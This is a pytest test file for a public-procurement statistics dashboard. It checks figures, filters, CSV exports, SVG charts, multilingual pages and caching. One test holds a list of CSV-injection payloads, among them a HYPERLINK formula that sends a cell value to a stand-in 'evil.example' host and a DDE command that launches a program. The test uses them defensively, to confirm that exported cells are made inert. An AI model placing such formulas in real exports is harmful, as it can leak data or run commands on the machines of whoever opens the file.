"""The statistics dashboard, checked against figures computed by hand on a small world.

The world (``world`` fixture; the clock reads 2026-03-02 09:00 UTC). Times are UTC; Algiers
is UTC+1. Amounts are DZD excluding VAT.

Authorities: ORN (AT-ORN, Oran), ALG (AP-ALG, Alger).
Firms: M1 micro (ANADE, wilaya 31), M2 micro (CNAC, wilaya 16), N1 not micro (wilaya 31).

====  =====  ========================  =========  ===================  =====================================
 id   auth.  published (UTC)           wilaya     lots (estimate)      what happened
====  =====  ========================  =========  ===================  =====================================
 T1   ORN    2026-01-10 10:00          31         L1 1.0 M reserved    deadline 2026-02-10 (31 days); bids:
                                                  L2 3.0 M             M1 (L1), M2 (L1+L2), N1 (L2);
                                                                       L1 → M1 provisional 0.9 M,
                                                                       L2 → N1 final 3.7 M (> 120 % of 3.0 M),
                                                                       both published 2026-02-20 10:00;
                                                                       sectors telecom + civil works
 T2   ORN    2026-01-20 10:00          31         L1 2.0 M             deadline 2026-01-30 (10 days: short);
                                                                       one bid (M2); round 1 award to N1 1.0 M
                                                                       published 2026-02-05, withdrawn;
                                                                       round 2 → M2 final 1.5 M, abnormally
                                                                       low offer kept, published 02-09 22:00
 T3   ALG    2025-12-31 23:30          16         L1 1.0 M reserved    (= 2026-01-01 00:30 in Algiers);
                                                                       deadline extended 22 h before it was
                                                                       due (late); opened with no bid →
                                                                       unsuccessful
 T4   ALG    2026-02-05 09:00          31         L1 0.5 M             open; extension 28 days ahead (not late)
 T5   ORN    2025-06-15 10:00          31         L1 1.0 M reserved    bids M1, N1 (July 2025); under evaluation
 T6   ORN    draft                     31         L1 9.0 M             never counted
 T7   ALG    2026-02-01 10:00          16         L1 4.0 M             cancelled before the opening
====  =====  ========================  =========  ===================  =====================================
"""

from __future__ import annotations

import csv
import gzip
import io
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from safkat.awards.models import LotAward
from safkat.bids.models import Bid, OpenedBid, Opening
from safkat.csvfiles import csv_bytes
from safkat.evaluation.models import Assessment, LotEvaluation
from safkat.opendata import redflags
from safkat.opendata.charts.formatting import csv_percent
from safkat.opendata.charts.model import Bar, Chart
from safkat.opendata.charts.svg import BAR, GAP, LABEL_WIDTH, VALUE_WIDTH, WIDTH, render_svg
from safkat.opendata.stats.dashboard import Dashboard
from safkat.opendata.stats.flag_counts import red_flag_counts
from safkat.opendata.stats.scope import StatsFilters
from safkat.opendata.stats_views import CHARTS, chart_csv
from safkat.tenders.models import Amendment

M = 1_000_000_00  # one million DZD, in centimes
SVG = "{http://www.w3.org/2000/svg}"


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


class World:
    """Builds the rows directly (the services are exercised in tests/awards and test_redflags)."""

    def __init__(self, make, session):
        self.make, self.session = make, session
        self.orn = make.authority(code="AT-ORN", name_fr="Algérie Télécom Oran", name_ar="اتصالات الجزائر وهران")
        self.alg = make.authority(code="AP-ALG", name_fr="Algérie Poste Alger", name_ar="بريد الجزائر العاصمة")
        self.m1 = make.enterprise(scheme="anade", wilaya_code="31", name="M1")
        self.m2 = make.enterprise(scheme="cnac", wilaya_code="16", name="M2")
        self.n1 = make.enterprise(scheme="none", wilaya_code="31", name="N1")
        self.bidder = make.bidder(enterprise=self.m1)
        self.telecom, self.civil = make.sector("telecom_networks"), make.sector("civil_works")

    def tender(self, authority, status, published, deadline, estimates, reserved=(), wilaya="31", sectors=None):
        tender = self.make.tender(
            state="cancelled" if status == "cancelled" else ("draft" if status == "draft" else "closed"),
            authority=authority,
            lots=len(estimates),
            wilayas=[wilaya],
            sectors=sectors or [self.telecom],
            published_at=published,
            submission_deadline_at=deadline,
        )
        for lot, estimate in zip(tender.lots, estimates, strict=True):
            lot.estimated_amount = estimate
            lot.is_reserved = lot.number in reserved
        tender.has_reserved_lot = bool(reserved)
        if status not in ("draft", "cancelled"):
            tender.status = status
        if status == "draft":
            tender.published_at = None
        self.session.flush()
        return tender

    def open(self, tender, bids):
        """``bids``: (enterprise, lot numbers, submitted at). Returns the Bid rows."""
        self.session.add(Opening(tender_id=tender.id, opened_at=tender.submission_deadline_at + timedelta(hours=1)))
        self.session.flush()
        rows = []
        for enterprise, numbers, submitted in bids:
            bid = Bid(
                tender_id=tender.id,
                enterprise_id=enterprise.id,
                created_by_id=self.bidder.id,
                status="submitted",
                digest="0" * 64,
                created_at=submitted,
                submitted_at=submitted,
            )
            bid.lots = [lot for lot in tender.lots if lot.number in numbers]
            self.session.add(bid)
            self.session.flush()
            self.session.add(
                OpenedBid(tender_id=tender.id, bid_id=bid.id, digest=bid.digest, is_intact=True, envelopes="{}",
                          amounts="{}", statement="")
            )  # fmt: skip
            rows.append(bid)
        self.session.flush()
        return rows

    def award(self, tender, lot, status, enterprise=None, amount=None, published=None, round_=1, bid=None, alo="none"):
        assessment_id = None
        if bid is not None:
            evaluation = self.session.query(LotEvaluation).filter_by(lot_id=lot.id).one_or_none()
            if evaluation is None:
                evaluation = LotEvaluation(tender_id=tender.id, lot_id=lot.id, status="locked", updated_at=published)
                self.session.add(evaluation)
                self.session.flush()
            assessment = Assessment(
                evaluation_id=evaluation.id,
                bid_id=bid.id,
                enterprise_id=enterprise.id,
                read_amount=amount,
                alo_status=alo,
                alo_justification="Prix justifié" if alo in ("kept", "rejected") else None,
            )
            self.session.add(assessment)
            self.session.flush()
            assessment_id = assessment.id
        award = LotAward(
            tender_id=tender.id,
            lot_id=lot.id,
            round=round_,
            status=status,
            assessment_id=assessment_id,
            enterprise_id=enterprise.id if enterprise else None,
            amount=amount,
            amount_incl_vat=amount,
            bids_count=1,
            reason="Aucune offre." if status == "unsuccessful" else None,
            published_at=published,
            standstill_ends_at=published + timedelta(days=10),
            finalized_at=published + timedelta(days=10) if status == "final" else None,
        )
        self.session.add(award)
        self.session.flush()
        return award

    def extend(self, tender, created, old, new):
        self.session.add(
            Amendment(tender_id=tender.id, number=len(tender.amendments) + 1, kind="deadline_extension",
                      reason="Prolongation", old_deadline_at=old, new_deadline_at=new, created_at=created,
                      created_by_id=tender.created_by_id)
        )  # fmt: skip
        self.session.flush()
        self.session.expire(tender, ["amendments"])


@pytest.fixture
def world(make, db_session):
    w = World(make, db_session)
    both = [w.telecom, w.civil]
    w.t1 = w.tender(w.orn, "provisional_award", utc(2026, 1, 10, 10), utc(2026, 2, 10, 10), [1 * M, 3 * M],
                    reserved=(1,), sectors=both)  # fmt: skip
    t1_bids = w.open(w.t1, [(w.m1, (1,), utc(2026, 2, 1, 9)), (w.m2, (1, 2), utc(2026, 2, 1, 15)),
                            (w.n1, (2,), utc(2026, 2, 9, 12))])  # fmt: skip
    w.award(w.t1, w.t1.lots[0], "provisional", w.m1, 900_000_00, utc(2026, 2, 20, 10), bid=t1_bids[0])
    w.award(w.t1, w.t1.lots[1], "final", w.n1, 3_700_000_00, utc(2026, 2, 20, 10), bid=t1_bids[2])

    w.t2 = w.tender(w.orn, "awarded", utc(2026, 1, 20, 10), utc(2026, 1, 30, 10), [2 * M], sectors=[w.civil])
    (t2_bid,) = w.open(w.t2, [(w.m2, (1,), utc(2026, 1, 25, 10))])
    w.award(w.t2, w.t2.lots[0], "withdrawn", w.n1, 1 * M, utc(2026, 2, 5, 10))
    w.award(w.t2, w.t2.lots[0], "final", w.m2, 1_500_000_00, utc(2026, 2, 9, 22), round_=2, bid=t2_bid, alo="kept")

    w.t3 = w.tender(w.alg, "unsuccessful", utc(2025, 12, 31, 23, 30), utc(2026, 2, 15, 23, 30), [1 * M],
                    reserved=(1,), wilaya="16")  # fmt: skip
    w.extend(w.t3, utc(2026, 2, 14, 12), utc(2026, 2, 15, 10), utc(2026, 2, 15, 23, 30))
    w.open(w.t3, [])
    w.award(w.t3, w.t3.lots[0], "unsuccessful", published=utc(2026, 2, 16, 10))

    w.t4 = w.tender(w.alg, "published", utc(2026, 2, 5, 9), utc(2026, 3, 20, 9), [500_000_00], sectors=[w.civil])
    w.extend(w.t4, utc(2026, 2, 10, 9), utc(2026, 3, 10, 9), utc(2026, 3, 20, 9))

    w.t5 = w.tender(w.orn, "evaluation", utc(2025, 6, 15, 10), utc(2025, 7, 15, 10), [1 * M], reserved=(1,))
    w.open(w.t5, [(w.m1, (1,), utc(2025, 7, 1, 10)), (w.n1, (1,), utc(2025, 7, 10, 10))])

    w.t6 = w.tender(w.orn, "draft", None, utc(2026, 4, 1, 10), [9 * M], reserved=(1,))
    w.t7 = w.tender(w.alg, "cancelled", utc(2026, 2, 1, 10), utc(2026, 3, 1, 9), [4 * M], wilaya="16")
    return w


def data(db_session, clock, **filters) -> Dashboard:
    return Dashboard(db_session, StatsFilters(**filters), clock.now(), 15)


# --- the figures, by hand ----------------------------------------------------------------------


def test_tenders_and_bids_per_month(world, db_session, clock):
    d = data(db_session, clock)
    # T5 in June 2025; T1, T2 and T3 (23:30 UTC on 31 December is January in Algiers) in January
    # 2026; T4 and T7 in February; the draft T6 never. Missing months are filled with zeros.
    assert [(m.month, m.count) for m in d.tenders_per_month] == [
        ("2025-06", 1), ("2025-07", 0), ("2025-08", 0), ("2025-09", 0), ("2025-10", 0), ("2025-11", 0),
        ("2025-12", 0), ("2026-01", 3), ("2026-02", 2),
    ]  # fmt: skip
    # Opened bids by submission month: T5's two in July 2025; T2's one in January 2026; T1's three
    # in February 2026 (T3 had none).
    assert [(m.month, m.count) for m in d.bids_per_month] == [
        ("2025-07", 2), ("2025-08", 0), ("2025-09", 0), ("2025-10", 0), ("2025-11", 0), ("2025-12", 0),
        ("2026-01", 1), ("2026-02", 3),
    ]  # fmt: skip


def test_competition(world, db_session, clock):
    c = data(db_session, clock).competition
    # Opened: T1 (3 bids), T2 (1), T3 (0), T5 (2) → 6 bids / 4 tenders = 1.5.
    assert c.distribution == {0: 1, 1: 1, 2: 1, 3: 1}
    assert (c.bids, c.tenders, c.average_per_tender) == (6, 4, Decimal("1.5"))
    # Lots of those tenders: 2 + 1 + 1 + 1 = 5; (bid, lot) pairs: T1 1 + 2 + 1, T2 1, T5 2 = 7 → 1.4.
    assert (c.bid_lots, c.lots, c.average_per_lot) == (7, 5, Decimal("1.4"))
    # Single bid: T2 alone among the 3 tenders opened with at least one bid → 1/3.
    assert (c.single_bid_tenders, c.tenders_with_bids) == (1, 3)
    assert c.single_bid_share == Decimal(1) / Decimal(3)


def test_amounts_awarded(world, db_session, clock):
    d = data(db_session, clock)
    # Standing awards: T1 L1 M1 provisional 0.9 M; T1 L2 N1 final 3.7 M; T2 round 2 M2 final 1.5 M.
    # T2's withdrawn round 1 (N1, 1.0 M) and T3's unsuccessful lot do not count.
    by_wilaya = [(g.key, g.final, g.provisional, g.total) for g in d.awarded_by_wilaya]
    # Winner's wilaya: 31 = N1 3.7 M final + M1 0.9 M provisional; 16 = M2 1.5 M final.
    assert by_wilaya == [("31", 3_700_000_00, 900_000_00, 4_600_000_00), ("16", 1_500_000_00, 0, 1_500_000_00)]
    by_sector = [(g.key, g.final, g.provisional) for g in d.awarded_by_sector]
    # T1 is in both sectors, so it counts in each: civil works = T1 (3.7 M + 0.9 M) + T2 1.5 M.
    assert by_sector == [("civil_works", 5_200_000_00, 900_000_00), ("telecom_networks", 3_700_000_00, 900_000_00)]
    by_authority = [(g.key, g.final, g.provisional) for g in d.awarded_by_authority]
    assert by_authority == [("AT-ORN", 5_200_000_00, 900_000_00)]
    assert d.awarded_by_authority[0].name("ar") == "اتصالات الجزائر وهران"


def test_micro_enterprise_share(world, db_session, clock):
    micro = data(db_session, clock).micro_share
    # Micro: M1 0.9 M (provisional) + M2 1.5 M (final) = 2.4 M; other: N1 3.7 M; share 2.4 / 6.1.
    assert (micro.micro.final, micro.micro.provisional, micro.other.total) == (1_500_000_00, 900_000_00, 3_700_000_00)
    assert micro.share == Decimal(240) / Decimal(610)
    assert csv_percent(micro.share) == "39.34"


def test_reserved_share_per_authority_and_year(world, db_session, clock):
    shares = [(s.authority, s.year, s.reserved_lots, s.lots, s.share, s.meets_target)
              for s in data(db_session, clock).reserved_shares]  # fmt: skip
    assert shares == [
        # AP-ALG 2026: T3 1.0 M reserved + T4 0.5 M (T7 cancelled, left out) → 1.0 / 1.5 = 66.7 %.
        ("AP-ALG", 2026, 1, 2, Decimal(1) / Decimal("1.5"), True),
        # AT-ORN 2026: T1 L1 1.0 M reserved of T1 4.0 M + T2 2.0 M → 1/6 = 16.7 %, below 20 %.
        ("AT-ORN", 2026, 1, 3, Decimal(1) / Decimal(6), False),
        # AT-ORN 2025: T5 1.0 M, reserved → 100 %. The draft T6 never counts.
        ("AT-ORN", 2025, 1, 1, Decimal(1), True),
    ]


def test_time_to_award(world, db_session, clock):
    d = data(db_session, clock)
    # T1: 2026-01-10 10:00 → 2026-02-20 10:00 = 41 days. T2: 2026-01-20 10:00 → 2026-02-09 22:00
    # (round 2; the withdrawn round 1 does not count) = 20.5 days. Average (41 + 20.5) / 2 = 30.75.
    assert [(x.authority, x.tenders, x.average_days) for x in d.time_to_award] == [("AT-ORN", 2, Decimal("30.75"))]
    assert d.overall_delay.average_days == Decimal("30.75")


def test_states_and_unsuccessful_share(world, db_session, clock):
    d = data(db_session, clock)
    assert d.tenders_by_state == {
        "open": 1,  # T4 (deadline 2026-03-20, after the clock's 2026-03-02)
        "closed": 0,
        "opened": 0,
        "evaluation": 1,  # T5
        "provisional_award": 1,  # T1
        "awarded": 1,  # T2
        "unsuccessful": 1,  # T3
        "cancelled": 1,  # T7
    }
    # Unsuccessful / (provisional_award + awarded + unsuccessful) = 1 / 3.
    assert d.unsuccessful_share == Decimal(1) / Decimal(3)


def test_red_flag_counts_match_the_tender_pages(world, db_session, clock):
    counts = data(db_session, clock).red_flag_counts
    # single bid: T2. short period (< 15 days): T2 (10 days). late extension: T3 (22 h before).
    # abnormally low winner: T2 (kept). above estimate: T1 L2 (3.7 M > 1.2 × 3.0 M).
    assert counts == {
        "single_bid": 1,
        "short_period": 1,
        "late_extension": 1,
        "abnormally_low_winner": 1,
        "above_estimate": 1,
    }
    per_tender = {
        name: [f.code for f in redflags.for_tender(db_session, getattr(world, name), 15)]
        for name in ("t1", "t2", "t3", "t4", "t5", "t7")
    }
    assert per_tender == {
        "t1": ["above_estimate"],
        "t2": ["single_bid", "short_period", "abnormally_low_winner"],
        "t3": ["late_extension"],
        "t4": [],
        "t5": [],
        "t7": [],
    }
    # A longer threshold catches more: at 28 days, T7 (27.96 days) too; T5 (30) and T1 (31) stay out.
    assert data(db_session, clock).red_flag_counts["short_period"] == 1
    assert red_flag_counts(db_session, StatsFilters(), 28)["short_period"] == 2


# --- filters -------------------------------------------------------------------------------------


def test_year_filter_uses_algiers_time(world, db_session, clock):
    d2025 = data(db_session, clock, year=2025)
    assert [(m.month, m.count) for m in d2025.tenders_per_month] == [("2025-06", 1)]  # T3 is 2026 in Algiers
    assert d2025.awarded_by_wilaya == [] and d2025.micro_share.share is None
    d2026 = data(db_session, clock, year=2026)
    assert sum(m.count for m in d2026.tenders_per_month) == 5  # T1, T2, T3, T4, T7
    c = d2026.competition  # T1 (3), T2 (1), T3 (0): 4 bids / 3; pairs 5 / lots 4; single 1 / 2
    assert (c.average_per_tender, c.average_per_lot, c.single_bid_share) == (
        Decimal(4) / Decimal(3),
        Decimal("1.25"),
        Decimal("0.5"),
    )


def test_authority_and_wilaya_filters(world, db_session, clock):
    alg = data(db_session, clock, authority="AP-ALG")  # T3, T4, T7
    assert [(m.month, m.count) for m in alg.tenders_per_month] == [("2026-01", 1), ("2026-02", 2)]
    assert alg.awarded_by_authority == [] and alg.competition.average_per_tender == Decimal(0)
    in_16 = data(db_session, clock, wilaya="16")  # T3, T7
    assert sum(in_16.tenders_by_state.values()) == 2 and in_16.tenders_by_state["cancelled"] == 1
    in_31 = data(db_session, clock, wilaya="31")  # T1, T2, T4 (ALG's, executed in Oran), T5
    assert in_31.tenders_by_state["open"] == 1 and sum(in_31.tenders_by_state.values()) == 4
    assert [s.authority for s in in_31.reserved_shares] == ["AP-ALG", "AT-ORN", "AT-ORN"]


def test_filters_from_the_query_string_drop_nonsense():
    assert StatsFilters.from_args({"year": "2026", "authority": " at-orn ", "wilaya": "31"}) == StatsFilters(
        2026, "AT-ORN", "31"
    )
    assert StatsFilters.from_args({"year": "20x6", "wilaya": "99"}) == StatsFilters()
    assert StatsFilters(2026, "", "16").as_args() == {"year": "2026", "wilaya": "16"}


def test_filtered_page_and_shareable_links(world, client):
    html = client.get("/stats?year=2026&authority=AP-ALG&lang=en").get_data(as_text=True)
    assert '<option value="2026" selected>' in html and '<option value="AP-ALG" selected>' in html
    assert "/stats/tenders-per-month.csv?year=2026&amp;authority=AP-ALG" in html
    assert "/stats/authority/AP-ALG?year=2026" in html  # "see the dashboard of…"
    assert "January 2026" in html and "June 2025" not in html


# --- CSV --------------------------------------------------------------------------------------------


def test_csv_amounts_with_bom_and_filters(world, client):
    response = client.get("/stats/awarded-by-wilaya.csv?lang=fr")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="safkat-awarded-by-wilaya.csv"'
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig").splitlines() == [
        "code,name,final_dzd,provisional_dzd,total_dzd",
        "31,Oran,3700000.00,900000.00,4600000.00",
        "16,Alger,1500000.00,0.00,1500000.00",
    ]
    arabic = client.get("/stats/awarded-by-wilaya.csv?lang=ar").data.decode("utf-8-sig").splitlines()
    assert arabic[1] == "31,وهران,3700000.00,900000.00,4600000.00"
    filtered = client.get("/stats/awarded-by-wilaya.csv?year=2025")
    assert filtered.data.decode("utf-8-sig").splitlines() == ["code,name,final_dzd,provisional_dzd,total_dzd"]
    assert 'filename="safkat-awarded-by-wilaya-2025.csv"' in filtered.headers["Content-Disposition"]


def test_summary_csv(world, client):
    lines = client.get("/stats/summary.csv").data.decode("utf-8-sig").splitlines()
    assert lines == [
        "indicator,value,numerator,denominator",
        "average_bids_per_tender,1.50,6,4",
        "average_bids_per_lot,1.40,7,5",
        "single_bid_share_percent,33.33,1,3",
        "micro_enterprise_share_percent,39.34,2400000.00,6100000.00",
        "average_days_to_award,30.75,61.50,2",
        "unsuccessful_share_percent,33.33,1,3",
    ]


def test_other_csv_files(world, client, db_session, clock):
    def rows(chart, query=""):
        return client.get(f"/stats/{chart}.csv{query}").data.decode("utf-8-sig").splitlines()

    assert rows("reserved-share", "?authority=AT-ORN") == [
        "authority_code,authority,year,reserved_lots,lots,share_percent,target_met",
        "AT-ORN,Algérie Télécom Oran,2026,1,3,16.67,0",
        "AT-ORN,Algérie Télécom Oran,2025,1,1,100.00,1",
    ]
    assert rows("time-to-award")[1] == "AT-ORN,Algérie Télécom Oran,2,30.75"
    assert rows("bids-per-tender") == ["bids,tenders", "0,1", "1,1", "2,1", "3,1"]
    assert rows("tenders-per-month", "?year=2026") == ["month,tenders", "2026-01,3", "2026-02,2"]
    assert rows("micro-enterprises")[1:] == [
        "micro,1500000.00,900000.00,2400000.00,39.34",
        "other,3700000.00,0.00,3700000.00,60.66",
    ]
    assert rows("red-flags", "?lang=en")[1] == "single_bid,Single bid,1"
    assert client.get("/stats/unknown.csv").status_code == 404


def test_csv_bytes_quotes_and_crlf():
    chart = Chart("x", "t", "d", [], [], ["name", "value"], [['Dar "El" Beida, Alger', 1]])
    assert chart_csv(chart) == '\ufeffname,value\r\n"Dar ""El"" Beida, Alger",1\r\n'.encode()


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


def test_no_csv_cell_is_a_formula(client, make, clock):
    """Issue 18, finding 4 (OWASP's CSV injection rule), over every CSV file of the statistics."""
    for name in FORMULAS:
        authority = make.authority(name_fr=name, name_ar=name)
        make.tender(state="open", authority=authority, reserved=True)
    cells = []
    for chart in CHARTS:
        text = client.get(f"/stats/{chart}.csv?lang=fr").data.decode("utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'" + name for name in FORMULAS} <= set(cells), "the names are there, made inert"
    assert csv_bytes(["n"], [[-1], ["\tx"]]) == "\ufeffn\r\n-1\r\n'\tx\r\n".encode(), "numbers stay numbers"


# --- pages, SVG, languages, caching, weight ------------------------------------------------------------


def svgs(html: str) -> list[ET.Element]:
    found, start = [], 0
    while (start := html.find("<svg", start)) != -1:
        end = html.index("</svg>", start) + len("</svg>")
        found.append(ET.fromstring(html[start:end]))  # well-formed XML, or this raises
        start = end
    return found


@pytest.mark.parametrize("lang", ["fr", "ar", "en"])
def test_pages_in_every_language(world, client, lang):
    for path in ("/stats", "/stats/authority/AT-ORN", "/stats?year=2026&wilaya=31"):
        response = client.get(f"{path}{'&' if '?' in path else '?'}lang={lang}")
        assert response.status_code == 200, path
        html = response.get_data(as_text=True)
        assert f'dir="{"rtl" if lang == "ar" else "ltr"}"' in html
        pictures = svgs(html)
        assert pictures, path
        for svg in pictures:
            assert svg.get("role") == "img"
            assert svg.find(f"{SVG}title").text and svg.find(f"{SVG}desc").text
            assert set(svg.get("aria-labelledby").split()) == {
                svg.find(f"{SVG}title").get("id"),
                svg.find(f"{SVG}desc").get("id"),
            }
            assert svg.findall(f"{SVG}text"), "labels are text"
            assert svg.get("direction") == ("rtl" if lang == "ar" else "ltr")
        assert "<script" not in html


def test_numbers_follow_the_language(world, client):
    fr = client.get("/stats?lang=fr").get_data(as_text=True)
    en = client.get("/stats?lang=en").get_data(as_text=True)
    ar = client.get("/stats?lang=ar").get_data(as_text=True)
    assert "4\u202f600\u202f000,00 DZD" in fr and "39,3\xa0%" in fr and "30,8" in fr
    assert "4,600,000.00 DZD" in en and "39.3%" in en and "30.8" in en
    assert "دج" in ar and "وهران" in ar


def test_arabic_bars_are_mirrored(world, client):
    def first_bar_and_label(lang):
        svg = svgs(client.get(f"/stats?lang={lang}").get_data(as_text=True))[0]
        rect = next(r for r in svg.iter(f"{SVG}rect") if r.get("height") == str(BAR))
        return float(rect.get("x")), float(rect.get("width")), float(svg.find(f"{SVG}text").get("x"))

    x_ltr, width, label_ltr = first_bar_and_label("en")
    x_rtl, width_rtl, label_rtl = first_bar_and_label("ar")
    assert width == width_rtl
    assert x_rtl == pytest.approx(WIDTH - x_ltr - width, abs=0.2)
    assert label_rtl == pytest.approx(WIDTH - label_ltr, abs=0.2)


def test_svg_rendering_escapes_and_is_well_formed():
    chart = Chart(
        slug="demo",
        title="A & B <C>",
        description="Desc",
        columns=[],
        rows=[],
        csv_header=[],
        csv_rows=[],
        bars=[Bar("Lot « 1 » & <2>", ((3, "final"), (1, "provisional")), "4")],
        series={"final": "Final", "provisional": "Provisional"},
        target=(0.5, "Target"),
        scale_max=8,
    )
    svg = ET.fromstring(str(render_svg(chart)))
    assert svg.find(f"{SVG}title").text == "A & B <C>"
    widths = [float(r.get("width")) for r in svg.iter(f"{SVG}rect") if r.get("height") == str(BAR)]
    span = WIDTH - LABEL_WIDTH - GAP - VALUE_WIDTH
    assert widths == pytest.approx([span * 3 / 8, span / 8], abs=0.1)
    assert svg.find(f"{SVG}line") is not None  # the target line
    assert ET.fromstring(str(render_svg(chart, rtl=True))).get("direction") == "rtl"


def test_authority_dashboard_shows_its_pipeline_and_nothing_sealed(world, client, make, clock, login):
    # A bid on T4 (open) is sealed: no count of it appears anywhere.
    from tests.bids.helpers import post_bid

    firm = make.bidder(enterprise=make.enterprise(status="verified"))
    assert post_bid(login(firm), world.t4).status_code == 302
    html = client.get("/stats/authority/ap-alg?lang=en").get_data(as_text=True)
    assert "Statistics of Algérie Poste Alger" in html
    assert world.t4.reference in html  # upcoming deadline
    pipeline = html[html.index('id="pipeline"') : html.index('id="upcoming-deadlines"')]
    assert re.search(r'>Open for bids</th><td [^>]*class="num">1</td>', pipeline)
    orn = client.get("/stats/authority/AT-ORN?lang=en").get_data(as_text=True)
    evaluations = orn[orn.index('id="open-evaluations"') : orn.index('id="open-evaluations"') + 2500]
    assert world.t5.reference in evaluations and world.t1.reference not in evaluations
    bids_chart = client.get("/stats/bids-per-month.csv?authority=AP-ALG").data.decode("utf-8-sig")
    assert bids_chart.splitlines() == ["month,bids"]  # T4's sealed bid is not counted
    assert client.get("/stats/authority/NOPE").status_code == 404


def test_conditional_requests(world, client, db_session, clock):
    first = client.get("/stats?year=2026")
    assert first.headers["ETag"] and first.headers["Last-Modified"]
    again = client.get("/stats?year=2026", headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304
    since = client.get("/stats/summary.csv", headers={"If-Modified-Since": first.headers["Last-Modified"]})
    assert since.status_code == 304
    other_filter = client.get("/stats?year=2025", headers={"If-None-Match": first.headers["ETag"]})
    assert other_filter.status_code == 200
    # A day later (after every recorded event), one lot of T1 becomes final: the tender's state
    # does not move, the figures do.
    clock.advance(days=1)
    award = db_session.query(LotAward).filter_by(lot_id=world.t1.lots[0].id).one()
    award.status, award.finalized_at = "final", clock.now()
    db_session.flush()
    assert client.get("/stats?year=2026", headers={"If-None-Match": first.headers["ETag"]}).status_code == 200


def test_page_weight(world, client):
    css = gzip.compress(client.get("/static/css/safkat.css").data)
    for path in ("/stats?lang=ar", "/stats/authority/AT-ORN?lang=fr"):
        page = client.get(path).data
        assert len(gzip.compress(page)) + len(css) < 60 * 1024, path


def test_empty_database_pages(client):
    html = client.get("/stats?lang=en").get_data(as_text=True)
    assert "No data for these filters." in html
    assert client.get("/stats/summary.csv").status_code == 200


def test_public_figures_are_computed_once_per_change_of_data(
    world, client, db_session, clock, login, make, monkeypatch
):
    from safkat.opendata import stats_views

    built = []
    real = stats_views._built
    monkeypatch.setattr(stats_views, "_built", lambda *args: built.append(args[1]) or real(*args))
    first = client.get("/stats?year=2026&lang=en")
    assert client.get("/stats?year=2026&lang=en").data == first.data  # a second visitor
    assert client.get("/stats/summary.csv?year=2026").data == client.get("/stats/summary.csv?year=2026").data
    assert len(built) == 2, "the page once, the CSV file once"
    client.get("/stats?year=2025&lang=en")  # other filters, other figures
    login(make.officer()).get("/stats?year=2026&lang=en")  # a logged-in page has the user's menu
    assert len(built) == 4
    clock.advance(days=1)
    award = db_session.query(LotAward).filter_by(lot_id=world.t1.lots[0].id).one()
    award.status, award.finalized_at = "final", clock.now()
    db_session.flush()
    assert client.get("/stats?year=2026&lang=en").status_code == 200
    assert len(built) == 5, "the data changed: computed anew"


def test_the_total_column_is_a_total_not_a_score(world, client):
    html = client.get("/stats?lang=fr").get_data(as_text=True)
    assert ">Total<" in html and "Note globale" not in html
